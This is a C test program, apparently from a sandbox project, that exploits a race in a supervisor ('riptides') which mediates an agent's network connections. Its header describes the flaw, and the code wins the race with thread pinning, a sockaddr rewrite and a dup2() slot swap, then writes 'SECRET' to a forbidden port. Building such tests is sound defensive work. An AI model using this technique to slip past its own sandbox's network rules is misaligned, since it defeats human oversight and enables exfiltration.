/*
 * The netns tier's slot race (found in review): while the supervisor serves
 * a blocking connect by installing a host socket, another thread rewrites
 * the sockaddr to a forbidden port and dup2()s a host UDP socket (which it
 * got from an allowed sendto) into the slot. If riptides let the agent's
 * connect run again in the kernel (CONTINUE), that connect would aim the
 * host socket at the forbidden port, and the write after it would arrive.
 *
 *   attack_slot_race ALLOWED_UDP_PORT ALLOWED_TCP_PORT FORBIDDEN_PORT
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdint.h>
#include <string.h>
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <unistd.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/sched.h>
#include <sys/syscall.h>
#include <stdlib.h>

static int N, H2, forbidden_port;
static uint64_t own_cookie;
static struct sockaddr_in addr;           /* A's sockaddr: rewritten by B */
static atomic_int go, stop;

static uint64_t cookie(int fd) { uint64_t c = 0; socklen_t l = sizeof c; if (getsockopt(fd, SOL_SOCKET, 71, &c, &l)) return 0; return c; }
static void pin(int cpu) { cpu_set_t s; CPU_ZERO(&s); CPU_SET(cpu, &s); sched_setaffinity(0, sizeof s, &s); }

static void *spinner(void *x) { pin(0); while (!stop) {} return 0; }
static void *swapper(void *x) {
  pin(1);
  while (!go) {}
  for (long i = 0; i < 20000000 && !stop; i++) {
    uint64_t c = cookie(N);
    if (c && c != own_cookie) {            /* riptides installed its host socket */
      addr.sin_port = htons((uint16_t)forbidden_port);
      dup2(H2, N);
      return (void *)1;
    }
  }
  return 0;
}
int main(int argc, char **argv) {
  if (argc != 4) { fprintf(stderr, "usage: attack_slot_race UDP TCP FORBIDDEN\n"); return 2; }
  forbidden_port = atoi(argv[3]);
  int tcp_port = atoi(argv[2]);
  struct sockaddr_in ok = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1])), .sin_addr.s_addr = htonl(0x7f000001) };
  H2 = socket(AF_INET, SOCK_DGRAM, 0);
  own_cookie = cookie(H2);
  if (sendto(H2, "hello", 5, 0, (void *)&ok, sizeof ok) < 0) perror("sendto allowed");
  fprintf(stderr, "H2 cookie %llx (own %llx)\n", (unsigned long long)cookie(H2), (unsigned long long)own_cookie);
  for (int attempt = 0; attempt < 30; attempt++) {
    N = socket(AF_INET, SOCK_STREAM, 0);
    addr = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons((uint16_t)tcp_port), .sin_addr.s_addr = htonl(0x7f000001) };
    stop = 0; go = 0;
    pthread_t sp, sw; pthread_create(&sp, 0, spinner, 0); pthread_create(&sw, 0, swapper, 0);
    pin(0);
    struct sched_param p = {0}; sched_setscheduler(0, SCHED_IDLE, &p);
    go = 1;
    int r = connect(N, (void *)&addr, sizeof addr);
    int e = errno;
    p.sched_priority = 0; sched_setscheduler(0, SCHED_OTHER, &p);
    stop = 1; void *swapped; pthread_join(sw, &swapped); pthread_join(sp, 0);
    int type = 0; socklen_t l = sizeof type; getsockopt(N, SOL_SOCKET, SO_TYPE, &type, &l);
    ssize_t w = write(N, "SECRET", 6);
    fprintf(stderr, "attempt %d: swapped=%d connect=%d(%s) slot type=%d write=%zd\n", attempt, swapped != 0, r, r ? strerror(e) : "-", type, w);
    if (swapped && r == 0 && type == SOCK_DGRAM && w == 6) { printf("sent=yes\n"); fflush(stdout); return 0; }
    close(N);
    H2 = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(H2, "hello", 5, 0, (void *)&ok, sizeof ok);
  }
  printf("sent=no\n");
  return 0;
}
